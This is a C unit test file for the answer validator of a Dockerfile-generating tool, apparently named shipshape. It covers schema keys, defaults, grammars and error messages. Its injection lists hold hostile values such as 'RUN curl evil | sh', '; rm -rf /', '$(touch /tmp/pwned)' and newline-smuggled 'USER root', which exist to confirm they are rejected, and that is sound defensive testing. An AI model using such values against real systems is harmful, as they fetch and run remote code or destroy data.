/*
 * check_answers: the shipped answer schema, the grammars, and the injection
 * list: every hostile value is rejected with the key named, whether it
 * comes as JSON (an answers file or the profile) or as typed text.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "shipshape/answers.h"
#include "shipshape/fsutil.h"
#include "testutil.h"

static struct answer_schema schema;

static void setup(void)
{
	struct strbuf a = STRBUF_INIT;
	struct ss_error err;
	answers_schema_init(&schema);
	ss_error_init(&err);
	tu_slurp(tu_src("templates/answers.json"), &a);
	ck_assert_msg(answers_schema_parse(&schema, a.buf, a.len, "answers.json", &err) == 0, "%s",
		      err.msg);
	strbuf_release(&a);
}

static void teardown(void)
{
	answers_schema_release(&schema);
}

START_TEST(test_schema_keys)
{
	static const char *const keys[] = {
		"python_version", "dependency_manager", "app_kind", "framework", "entrypoint",
		"command", "port", "health_path", "system_packages", "ci", "image_name",
		"migrations", "syntax_directive", "installable_package", "test_command", "registry",
		"production_branch", "update_bot", "base_image_digest", "python_patch", "workers",
		"requirements_file", "app_dir",
	};
	const struct answer_key *k;
	for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
		k = answers_schema_find(&schema, keys[i]);
		ck_assert_msg(k != NULL, "missing key %s", keys[i]);
		ck_assert(k->prompt && *k->prompt && k->help && *k->help);
		ck_assert(k->tier >= 0 && k->tier <= 6);
		ck_assert_int_eq(k->required + k->optional + (k->default_value != NULL), 1);
	}
	k = answers_schema_find(&schema, "dependency_manager");
	ck_assert_uint_eq(k->nchoices, 6);
	ck_assert_str_eq(k->choices[0], "pip");
	ck_assert_str_eq(k->choices[5], "conda");
	k = answers_schema_find(&schema, "syntax_directive");
	ck_assert(cJSON_IsTrue(k->default_value));
	k = answers_schema_find(&schema, "entrypoint");
	ck_assert(k->required);
	ck_assert_str_eq(k->grammar, "python-path");
	k = answers_schema_find(&schema, "port");
	ck_assert_int_eq(k->minimum, 1);
	ck_assert_int_eq(k->maximum, 65535);
	ck_assert_ptr_null(answers_schema_find(&schema, "nope"));
	ck_assert_ptr_null(answers_schema_find(&schema, NULL));
}
END_TEST

START_TEST(test_defaults)
{
	cJSON *in = cJSON_Parse("{\"port\": 5000}");
	cJSON *a = answers_with_defaults(&schema, in);
	struct ss_error err;
	ck_assert_str_eq(cJSON_GetObjectItem(a, "python_version")->valuestring, "3.12");
	ck_assert_int_eq(cJSON_GetObjectItem(a, "port")->valueint, 5000);
	ck_assert(cJSON_IsTrue(cJSON_GetObjectItem(a, "syntax_directive")));
	ck_assert_ptr_null(cJSON_GetObjectItem(a, "entrypoint"));
	ck_assert_ptr_null(cJSON_GetObjectItem(a, "python_patch"));
	ck_assert_int_eq(cJSON_GetArraySize(cJSON_GetObjectItem(a, "test_command")), 3);
	/* the defaults themselves are valid */
	ss_error_init(&err);
	ck_assert_msg(answers_validate(&schema, a, NULL, &err) == 0, "%s", err.msg);
	cJSON_Delete(a);
	cJSON_Delete(in);
	a = answers_with_defaults(&schema, NULL);
	ck_assert_int_eq(cJSON_GetObjectItem(a, "port")->valueint, 8000);
	cJSON_Delete(a);
}
END_TEST

START_TEST(test_valid_values)
{
	static const char *const ok[][2] = {
		{"entrypoint", "\"app:app\""},
		{"entrypoint", "\"myproject.wsgi:application\""},
		{"entrypoint", "\"pkg.web:create_app()\""},
		{"entrypoint", "\"_m.x_1:App.wsgi\""},
		{"health_path", "\"/\""},
		{"health_path", "\"/healthz\""},
		{"health_path", "\"/api/v1/health-check.json\""},
		{"image_name", "\"app\""},
		{"image_name", "\"acme/shop\""},
		{"image_name", "\"a.b/c__d-e/f_g\""},
		{"registry", "\"ghcr.io\""},
		{"registry", "\"localhost:5000\""},
		{"registry", "\"registry.gitlab.com\""},
		{"production_branch", "\"main\""},
		{"production_branch", "\"release/1.2\""},
		{"python_version", "\"3.12\""},
		{"python_version", "\"3.9\""},
		{"python_patch", "\"3.12.5\""},
		{"python_patch", "null"},
		{"base_image_digest",
		 "\"sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\""},
		{"port", "1"},
		{"port", "65535"},
		{"port", "8000"},
		{"workers", "4"},
		{"command", "[\"celery\", \"-A\", \"proj\", \"worker\", \"--loglevel\", \"INFO\"]"},
		{"command", "[\"python\", \"-m\", \"my app\"]"},
		{"command", "[\"python\", \"-m\", \"myapp\", \"run\"]"},
		{"test_command", "[\"python\", \"-m\", \"flask\", \"--app\", \"app\", \"routes\"]"},
		{"test_command", "[\"python\", \"-m\", \"pytest\", \"-q\"]"},
		{"system_packages", "{\"build\": [\"gcc\", \"libpq-dev\"], \"runtime\": [\"libpq5\"]}"},
		{"system_packages", "{\"runtime\": [\"libxml2\", \"g++\", \"libstdc++6\"]}"},
		{"system_packages", "{}"},
		{"requirements_file", "\"requirements/prod.txt\""},
		{"app_dir", "\"/srv/app\""},
		{"app_dir", "\"/\""},
		{"rebuild_schedule", "\"0 4 * * 1\""},
		{"rebuild_schedule", "\"*/15 0-6 1,15 * *\""},
		{"poetry_version", "\"1.8.5\""},
		{"uv_version", "\"0.6.16\""},
		{"syntax_directive", "false"},
		{"installable_package", "true"},
		{"app_kind", "\"cli\""},
		{"ci", "\"gitlab\""},
	};
	struct ss_error err;
	for (size_t i = 0; i < sizeof(ok) / sizeof(ok[0]); i++) {
		cJSON *v = cJSON_Parse(ok[i][1]);
		ck_assert_ptr_nonnull(v);
		ss_error_init(&err);
		ck_assert_msg(answers_validate_one(&schema, ok[i][0], v, &err) == 0, "%s=%s: %s",
			      ok[i][0], ok[i][1], err.msg);
		cJSON_Delete(v);
	}
}
END_TEST

/* The injection list: each hostile value, for every string key. */
static const char *const hostile[] = {
	"app:app\nRUN curl evil | sh",
	"app:app\r\nUSER root",
	"app\"]\nUSER root\n#",
	"$(touch /tmp/pwned)",
	"${HOME}",
	"`id`",
	"app\\app",
	"app:app; rm -rf /",
	"a b",
	"'quoted'",
	"tab\there",
	"\xc3\xa9t\xc3\xa9",
	"app:app\x7f",
	"",
};

static const char *const string_keys[] = {
	"entrypoint", "health_path", "image_name", "registry", "production_branch",
	"python_version", "python_patch", "base_image_digest", "requirements_file", "app_dir",
	"rebuild_schedule", "poetry_version", "pipenv_version", "uv_version", "app_kind", "ci",
	"framework", "dependency_manager", "migrations", "update_bot", "debian_release",
};

START_TEST(test_injection_strings)
{
	struct ss_error err;
	char want[64];
	for (size_t k = 0; k < sizeof(string_keys) / sizeof(string_keys[0]); k++) {
		snprintf(want, sizeof(want), "invalid value for '%s'", string_keys[k]);
		for (size_t h = 0; h < sizeof(hostile) / sizeof(hostile[0]); h++) {
			cJSON *v = cJSON_CreateString(hostile[h]), *obj, *out = NULL;
			ss_error_init(&err);
			ck_assert_msg(answers_validate_one(&schema, string_keys[k], v, &err) ==
					      SS_ERR_INPUT,
				      "%s accepted '%s'", string_keys[k], hostile[h]);
			ck_assert_msg(strstr(err.msg, want), "%s: '%s'", string_keys[k], err.msg);
			/* the same inside an answers object (an --answers file) */
			obj = cJSON_CreateObject();
			cJSON_AddItemToObject(obj, string_keys[k], v);
			ss_error_init(&err);
			ck_assert_int_eq(answers_validate(&schema, obj, "a.json", &err), SS_ERR_INPUT);
			ck_assert_ptr_nonnull(strstr(err.msg, want));
			ck_assert_str_eq(err.file, "a.json");
			/* and typed into the wizard */
			ss_error_init(&err);
			ck_assert_msg(answers_parse_text(&schema, string_keys[k], hostile[h], &out,
							 &err) == SS_ERR_INPUT ||
					      (hostile[h][0] == '\0' &&
					       (!strcmp(string_keys[k], "python_patch") ||
						!strcmp(string_keys[k], "base_image_digest"))),
				      "text %s accepted '%s'", string_keys[k], hostile[h]);
			if (out) {
				/* only an empty optional answer is accepted: it means unset */
				ck_assert(cJSON_IsNull(out));
				cJSON_Delete(out);
			} else {
				ck_assert_msg(strstr(err.msg, want), "%s: '%s'", string_keys[k],
					      err.msg);
			}
			cJSON_Delete(obj);
		}
	}
}
END_TEST

START_TEST(test_injection_argv_and_lists)
{
	static const char *const bad[][2] = {
		{"command", "[\"python\", \"-c\", \"$(id)\"]"},
		{"command", "[\"celery\", \"a\\nRUN evil\"]"},
		{"command", "[\"x\\\"]\\nUSER root\"]"},
		{"command", "[\"a\\\\b\"]"},
		{"command", "[\"`id`\"]"},
		{"command", "[\"sh\", \"-c\", \"echo $HOME\"]"},
		{"command", "[\"it's\"]"},
		{"command", "[\"python\", \"manage.py\", \"runserver\", \"0.0.0.0:8000\"]"},
		{"command", "[\"flask\", \"run\", \"--host\", \"0.0.0.0\"]"},
		{"command", "[\"python\", \"-m\", \"flask\", \"run\"]"},
		{"command", "[\"uvicorn\", \"app:app\", \"--reload\"]"},
		{"command", "[\"\"]"},
		{"command", "[]"},
		{"command", "\"python app.py\""},
		{"command", "[1]"},
		{"test_command", "[\"pytest\", \"\\r\"]"},
		{"test_command", "[\"pytest\", \"\\u001b[31m\"]"},
		{"system_packages", "{\"build\": [\"gcc; rm -rf /\"]}"},
		{"system_packages", "{\"build\": [\"gcc\\nRUN evil\"]}"},
		{"system_packages", "{\"runtime\": [\"Libpq5\"]}"},
		{"system_packages", "{\"runtime\": [\"-y\"]}"},
		{"system_packages", "{\"runtime\": \"libpq5\"}"},
		{"system_packages", "{\"evil\": []}"},
		{"system_packages", "[\"gcc\"]"},
		{"port", "0"},
		{"port", "65536"},
		{"port", "-1"},
		{"port", "80.5"},
		{"port", "\"8000\""},
		{"port", "1e300"},
		{"workers", "0"},
		{"syntax_directive", "\"true\""},
		{"syntax_directive", "1"},
		{"entrypoint", "null"},
		{"entrypoint", "[\"app:app\"]"},
		{"app_kind", "\"WSGI\""},
	};
	struct ss_error err;
	char want[64];
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		cJSON *v = cJSON_Parse(bad[i][1]);
		ck_assert_msg(v != NULL, "test JSON %s", bad[i][1]);
		snprintf(want, sizeof(want), "invalid value for '%s'", bad[i][0]);
		ss_error_init(&err);
		ck_assert_msg(answers_validate_one(&schema, bad[i][0], v, &err) == SS_ERR_INPUT,
			      "%s accepted %s", bad[i][0], bad[i][1]);
		ck_assert_msg(strstr(err.msg, want), "%s: %s", bad[i][0], err.msg);
		cJSON_Delete(v);
	}
}
END_TEST

START_TEST(test_messages)
{
	static const char *const cases[][3] = {
		{"entrypoint", "\"app:app\\nRUN x\"", "invalid value for 'entrypoint': contains a newline"},
		{"entrypoint", "\"app\"", "invalid value for 'entrypoint': is not MODULE:ATTRIBUTE like myapp.wsgi:application"},
		{"command", "[\"a\", \"$(id)\"]", "invalid value for 'command': argument 2 contains '$(' (command substitution)"},
		{"health_path", "\"/a\\\\b\"", "invalid value for 'health_path': contains a backslash"},
		{"health_path", "\"/a\\\"b\"", "invalid value for 'health_path': contains a double quote"},
		{"health_path", "\"healthz\"", "invalid value for 'health_path': must start with '/'"},
		{"health_path", "\"/../etc\"", "invalid value for 'health_path': has a '.' or '..' component"},
		{"port", "70000", "invalid value for 'port': 70000 is out of range 1-65535"},
		{"ci", "\"jenkins\"", "invalid value for 'ci': 'jenkins' is not one of github, gitlab, none"},
		{"system_packages", "{\"build\": [\"a b\"]}", "invalid value for 'system_packages': build[0] contains a space"},
		{"command", "[\"flask\", \"run\"]", "invalid value for 'command': 'run' starts a development server; use gunicorn or uvicorn"},
		{"nope", "1", "unknown answer key 'nope'"},
	};
	struct ss_error err;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		cJSON *v = cJSON_Parse(cases[i][1]);
		ss_error_init(&err);
		ck_assert_int_eq(answers_validate_one(&schema, cases[i][0], v, &err), SS_ERR_INPUT);
		ck_assert_str_eq(err.msg, cases[i][2]);
		cJSON_Delete(v);
	}
}
END_TEST

START_TEST(test_validate_object)
{
	struct ss_error err;
	cJSON *a = cJSON_Parse("{\"python_version\": \"3.12\", \"python_patch\": \"3.11.4\"}");
	ss_error_init(&err);
	ck_assert_int_eq(answers_validate(&schema, a, "x.json", &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg,
			 "invalid value for 'python_patch': '3.11.4' is not a release of Python 3.12");
	cJSON_Delete(a);
	a = cJSON_Parse("{\"python_version\": \"3.12\", \"python_patch\": \"3.12.7\"}");
	ck_assert_int_eq(answers_validate(&schema, a, "x.json", &err), 0);
	cJSON_Delete(a);
	a = cJSON_Parse("{\"colour\": \"red\"}");
	ck_assert_int_eq(answers_validate(&schema, a, "x.json", &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg, "unknown answer key 'colour'");
	cJSON_Delete(a);
	a = cJSON_Parse("{\"a\\nb\": 1}");
	ck_assert_int_eq(answers_validate(&schema, a, "x.json", &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg, "unknown answer key (contains a newline)");
	cJSON_Delete(a);
	a = cJSON_Parse("[1]");
	ck_assert_int_eq(answers_validate(&schema, a, "x.json", &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg, "answers must be a JSON object");
	cJSON_Delete(a);
}
END_TEST

START_TEST(test_parse_text)
{
	static const char *const cases[][3] = {
		{"command", "celery -A 'my app' worker", "[\"celery\",\"-A\",\"my app\",\"worker\"]"},
		{"command", "  python   -m   app  ", "[\"python\",\"-m\",\"app\"]"},
		{"command", "python -m \"my mod\" x\\ y", "[\"python\",\"-m\",\"my mod\",\"x y\"]"},
		{"test_command", "pytest -k 'not slow'", "[\"pytest\",\"-k\",\"not slow\"]"},
		{"port", " 8080 ", "8080"},
		{"syntax_directive", "No", "false"},
		{"syntax_directive", "y", "true"},
		{"installable_package", "TRUE", "true"},
		{"system_packages", "build: gcc libpq-dev; runtime: libpq5",
		 "{\"build\":[\"gcc\",\"libpq-dev\"],\"runtime\":[\"libpq5\"]}"},
		{"system_packages", "runtime: libpq5, libxml2", "{\"build\":[],\"runtime\":[\"libpq5\",\"libxml2\"]}"},
		{"system_packages", "", "{\"build\":[],\"runtime\":[]}"},
		{"python_patch", "  ", "null"},
		{"entrypoint", " app:app ", "\"app:app\""},
		{"app_kind", "asgi", "\"asgi\""},
	};
	static const char *const bad[][3] = {
		{"command", "python 'unterminated", "invalid value for 'command': has an unterminated ' quote"},
		{"command", "python \"unterminated", "invalid value for 'command': has an unterminated \" quote"},
		{"command", "python x\\", "invalid value for 'command': ends with a backslash"},
		{"command", "python \"$(id)\"", "invalid value for 'command': argument 2 contains '$(' (command substitution)"},
		{"command", "python \"a\\\"b\"", "invalid value for 'command': argument 2 contains a double quote"},
		{"command", "", "invalid value for 'command': expected a non-empty array of strings (program and arguments)"},
		{"command", "a\nb", "invalid value for 'command': contains a newline"},
		{"port", "80x", "invalid value for 'port': expected a whole number"},
		{"port", "99999999999999999999", "invalid value for 'port': expected a whole number"},
		{"port", "", "invalid value for 'port': expected a whole number"},
		{"syntax_directive", "maybe", "invalid value for 'syntax_directive': expected yes or no"},
		{"system_packages", "gcc", "invalid value for 'system_packages': expected 'FIELD: item item ...' (fields: build runtime)"},
		{"system_packages", "test: gcc", "invalid value for 'system_packages': unknown field 'test'"},
		{"entrypoint", "", "invalid value for 'entrypoint': is empty"},
		{"nope", "x", "unknown answer key 'nope'"},
	};
	struct ss_error err;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		cJSON *v = NULL;
		char *s;
		ss_error_init(&err);
		ck_assert_msg(answers_parse_text(&schema, cases[i][0], cases[i][1], &v, &err) == 0,
			      "%s '%s': %s", cases[i][0], cases[i][1], err.msg);
		s = cJSON_PrintUnformatted(v);
		ck_assert_str_eq(s, cases[i][2]);
		free(s);
		cJSON_Delete(v);
	}
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		cJSON *v = (cJSON *)&err; /* must be reset to NULL */
		ss_error_init(&err);
		ck_assert_int_eq(answers_parse_text(&schema, bad[i][0], bad[i][1], &v, &err),
				 SS_ERR_INPUT);
		ck_assert_ptr_null(v);
		ck_assert_str_eq(err.msg, bad[i][2]);
	}
}
END_TEST

START_TEST(test_format_text_round_trip)
{
	static const char *const values[][2] = {
		{"command", "[\"celery\",\"-A\",\"my app\",\"worker\"]"},
		{"command", "[\"python\",\"-c\",\"print(1)\"]"},
		{"system_packages", "{\"build\":[\"gcc\"],\"runtime\":[\"libpq5\",\"libxml2\"]}"},
		{"port", "8000"},
		{"syntax_directive", "true"},
		{"entrypoint", "\"app:app\""},
	};
	struct ss_error err;
	for (size_t i = 0; i < sizeof(values) / sizeof(values[0]); i++) {
		struct strbuf sb = STRBUF_INIT;
		cJSON *v = cJSON_Parse(values[i][1]), *back = NULL;
		answers_format_text(answers_schema_find(&schema, values[i][0]), v, &sb);
		ss_error_init(&err);
		ck_assert_msg(answers_parse_text(&schema, values[i][0], sb.buf, &back, &err) == 0,
			      "'%s': %s", sb.buf, err.msg);
		ck_assert_msg(cJSON_Compare(v, back, 1), "'%s' does not round-trip", sb.buf);
		cJSON_Delete(v);
		cJSON_Delete(back);
		strbuf_release(&sb);
	}
}
END_TEST

START_TEST(test_check_complete)
{
	struct ss_error err;
	cJSON *a = cJSON_Parse("{\"app_kind\": \"wsgi\"}");
	cJSON *full = answers_with_defaults(&schema, a);
	ss_error_init(&err);
	ck_assert_int_eq(answers_check_complete(&schema, full, 6, NULL, &err), SS_ERR_INPUT);
	ck_assert_ptr_nonnull(strstr(err.msg, "missing answer for 'entrypoint' (needed from tier 0)"));
	cJSON_AddStringToObject(full, "entrypoint", "app:app");
	ck_assert_int_eq(answers_check_complete(&schema, full, 6, NULL, &err), 0);
	/* a worker needs a command, not an entrypoint */
	cJSON_ReplaceItemInObject(full, "app_kind", cJSON_CreateString("worker"));
	cJSON_DeleteItemFromObject(full, "entrypoint");
	ck_assert_int_eq(answers_check_complete(&schema, full, 0, NULL, &err), SS_ERR_INPUT);
	ck_assert_ptr_nonnull(strstr(err.msg, "'command'"));
	ck_assert(!answers_key_relevant(answers_schema_find(&schema, "port"), full));
	ck_assert(answers_key_relevant(answers_schema_find(&schema, "command"), full));
	cJSON_Delete(full);
	cJSON_Delete(a);
}
END_TEST

START_TEST(test_load_file)
{
	char *dir = tu_tmpdir();
	struct strbuf path = STRBUF_INIT;
	struct ss_error err;
	cJSON *out = NULL;

	fs_path_join(&path, dir, "answers.json");
	tu_spew(path.buf, "{\n  \"ci\": \"github\",\n  \"port\": 8000,\n  \"health_path\": \"/healthz\"\n}\n");
	ss_error_init(&err);
	ck_assert_int_eq(answers_load_file(&schema, path.buf, &out, &err), 0);
	ck_assert_int_eq(cJSON_GetObjectItem(out, "port")->valueint, 8000);
	cJSON_Delete(out);
	tu_spew(path.buf, "{\n  \"ci\": \"github\",\n  \"port\": 8000,,\n}\n");
	ck_assert_int_eq(answers_load_file(&schema, path.buf, &out, &err), SS_ERR_INPUT);
	ck_assert_ptr_null(out);
	ck_assert_str_eq(err.file, path.buf);
	ck_assert_int_eq(err.line, 3);
	ck_assert_int_gt(err.col, 0);
	tu_spew(path.buf, "{\"entrypoint\": \"app:app\\u0000; rm -rf /\"}");
	ck_assert_int_eq(answers_load_file(&schema, path.buf, &out, &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg, "invalid JSON: a NUL character is not allowed");
	ck_assert_int_eq(err.line, 1);
	ck_assert_int_eq(err.col, 24);
	tu_spew(path.buf, "{\"entrypoint\": \"app:app\\\\u0000\"}");
	ck_assert_int_eq(answers_load_file(&schema, path.buf, &out, &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg, "invalid value for 'entrypoint': contains a backslash");
	tu_spew(path.buf, "{\"port\": 0}");
	ck_assert_int_eq(answers_load_file(&schema, path.buf, &out, &err), SS_ERR_INPUT);
	ck_assert_str_eq(err.msg, "invalid value for 'port': 0 is out of range 1-65535");
	fs_path_join(&path, dir, "missing.json");
	ck_assert_int_eq(answers_load_file(&schema, path.buf, &out, &err), SS_ERR_INPUT);
	tu_rmrf(dir);
	free(dir);
	strbuf_release(&path);
}
END_TEST

START_TEST(test_raw_nul_in_json)
{
	static const char text[] = "{\"a\": \"x\0y\"}";
	struct ss_error err;
	cJSON *out = NULL;
	ss_error_init(&err);
	ck_assert_int_eq(answers_parse_json(text, sizeof(text) - 1, "f", &out, &err), SS_ERR_INPUT);
	ck_assert_ptr_null(out);
	ck_assert_int_eq(err.col, 9);
}
END_TEST

START_TEST(test_grammars)
{
	struct strbuf why = STRBUF_INIT;
	ck_assert_int_eq(answers_grammar_check("nonesuch", "x", &why), SS_ERR_INPUT);
	ck_assert_str_eq(why.buf, "unknown grammar 'nonesuch'");
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("branch", "feature/x.lock", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("branch", "-main", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("registry", "ghcr.io:", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("registry", "host:123456", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("image-name", "acme//shop", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("image-name", "acme/shop:latest", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("image-name", "a--b", &why), 0);
	ck_assert_int_eq(answers_grammar_check("image-name", "a.-b", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("relpath", "../x", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("relpath", "a/./b", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("abspath", "/app/", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("cron", "0 4 * *", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("cron", "0  4 * * 1", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("python-path", "a.:b", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("python-path", "a:b(x)", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("python-path", "1a:b", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("python-version", "3", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("python-version", "3.12.1", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("digest", "sha256:ABC", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("version", "1..2", &why), SS_ERR_INPUT);
	strbuf_reset(&why);
	ck_assert_int_eq(answers_grammar_check("debian-package", "x", &why), SS_ERR_INPUT);
	strbuf_release(&why);
}
END_TEST

START_TEST(test_broken_schema)
{
	static const char *const cases[][2] = {
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"string\", \"grammar\": \"relpath\","
		 " \"default\": \"x\", \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0, \"colour\": 1}]}",
		 "keys[0].colour: unknown field"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"float\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}", "keys[0].type: unknown type 'float'"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"enum\", \"default\": \"x\","
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}", "keys[0].choices: an enum key needs choices"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 0, \"minimum\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}",
		 "keys[0].default: invalid value for 'a': 0 is out of range"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 1, \"required\": true,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}",
		 "keys[0]: exactly one of 'default', 'required' and 'optional' must be given"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"string\", \"grammar\": \"nope\","
		 " \"optional\": true, \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}",
		 "keys[0].grammar: unknown grammar 'nope'"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 9}]}", "keys[0].tier: expected a tier number 0-6"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 1e300}]}", "keys[0].tier: expected a tier number 0-6"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 1,"
		 " \"minimum\": -1e300, \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}",
		 "keys[0].minimum: expected an integer"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0, \"ask_when\": {\"b\": [1]}}]}",
		 "keys[0].ask_when.b: unknown answer key 'b'"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"int\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}, {\"key\": \"a\", \"type\": \"int\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}", "keys[1].key: duplicate key 'a'"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a\", \"type\": \"string\","
		 " \"default\": \"x\", \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}",
		 "keys[0].grammar: a string key needs a grammar"},
		{"{\"schema_version\": 1, \"keys\": [{\"key\": \"a b\", \"type\": \"int\", \"default\": 1,"
		 " \"prompt\": \"p\", \"help\": \"h\", \"tier\": 0}]}", "keys[0].key: 'a b' is not a lowercase identifier"},
		{"{\"schema_version\": 1, \"keys\": []}", "keys: expected a non-empty array"},
		{"{\"schema_version\": 3, \"keys\": []}", "schema_version: expected 1"},
		{"{\"schema_version\": 1, \"keys\": [], \"x\": 1}", "x: unknown field"},
	};
	struct ss_error err;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct answer_schema s;
		answers_schema_init(&s);
		ss_error_init(&err);
		ck_assert_int_eq(answers_schema_parse(&s, cases[i][0], strlen(cases[i][0]), "s.json", &err),
				 SS_ERR_INPUT);
		ck_assert_msg(strstr(err.msg, cases[i][1]), "case %zu: '%s'", i, err.msg);
		ck_assert_uint_eq(s.nr, 0);
		answers_schema_release(&s);
	}
}
END_TEST

Suite *suite_answers(void)
{
	Suite *s = suite_create("answers");
	TCase *tc = tcase_create("core");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_schema_keys);
	tcase_add_test(tc, test_defaults);
	tcase_add_test(tc, test_valid_values);
	tcase_add_test(tc, test_injection_strings);
	tcase_add_test(tc, test_injection_argv_and_lists);
	tcase_add_test(tc, test_messages);
	tcase_add_test(tc, test_validate_object);
	tcase_add_test(tc, test_parse_text);
	tcase_add_test(tc, test_format_text_round_trip);
	tcase_add_test(tc, test_check_complete);
	tcase_add_test(tc, test_load_file);
	tcase_add_test(tc, test_raw_nul_in_json);
	tcase_add_test(tc, test_grammars);
	tcase_add_test(tc, test_broken_schema);
	suite_add_tcase(s, tc);
	return s;
}
